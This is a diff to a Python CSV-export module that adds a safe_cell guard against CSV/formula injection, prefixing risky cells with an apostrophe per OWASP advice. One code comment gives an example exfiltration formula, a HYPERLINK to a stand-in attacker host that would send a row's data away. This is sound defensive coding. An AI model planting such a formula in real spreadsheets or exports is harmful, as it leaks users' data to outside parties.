@@ -10,6 +10,7 @@ import csv
 import io
 import math
 import os
+import re
 import tempfile
 from collections.abc import Iterable, Mapping, Sequence
 from pathlib import Path
@@ -194,10 +195,25 @@ def _duplicates(frame: pd.DataFrame, lines: np.ndarray) -> Iterable[Problem]:
 
 # --------------------------------------------------------------------------- writing
 
+# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection):
+# =HYPERLINK("http://attacker.example/?x="&A2,"Click") in a comment would send the row away.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def safe_cell(text: str) -> str:
+    """A text cell that no spreadsheet runs as a formula: one that starts with ``=``, ``+``,
+    ``-``, ``@``, tab or carriage return gets a leading apostrophe (OWASP's advice), except
+    a plain number (``-1.5`` stays a number). Every CSV the product writes goes through it."""
+    if text.startswith(_FORMULA_START) and not _NUMBER.fullmatch(text):
+        return "'" + text
+    return text
+
 
 def format_number(value: Any) -> str:
     """A CSV cell: empty for missing, true/false for booleans, integers as such, other
-    numbers with 10 significant digits (METHODS §6 asks for at least 6)."""
+    numbers with 10 significant digits (METHODS §6 asks for at least 6), text made safe for
+    spreadsheets (`safe_cell`)."""
     if value is None or value is pd.NA:
         return ""
     if isinstance(value, (bool, np.bool_)):
@@ -208,7 +224,7 @@ def format_number(value: Any) -> str:
         return "" if math.isnan(value) else f"{float(value):.10g}"
     if isinstance(value, tuple):
         return " ".join(format_number(v) for v in value)
-    return str(value)
+    return safe_cell(str(value))
 
 
 def write_csv(frame: pd.DataFrame, path: str | os.PathLike[str], columns: Sequence[str]) -> None:
@@ -252,7 +268,8 @@ def _cells(values: list[Any]) -> list[str]:
         elif isinstance(value, (int, np.integer)) and not isinstance(value, bool):
             formatted[value] = str(int(value))
         else:
-            formatted[value] = _quote("" if value is None or value is pd.NA else str(value))
+            text = "" if value is None or value is pd.NA else str(value)
+            formatted[value] = _quote(safe_cell(text))
     return list(map(formatted.get, values, [""] * len(values)))
 
 
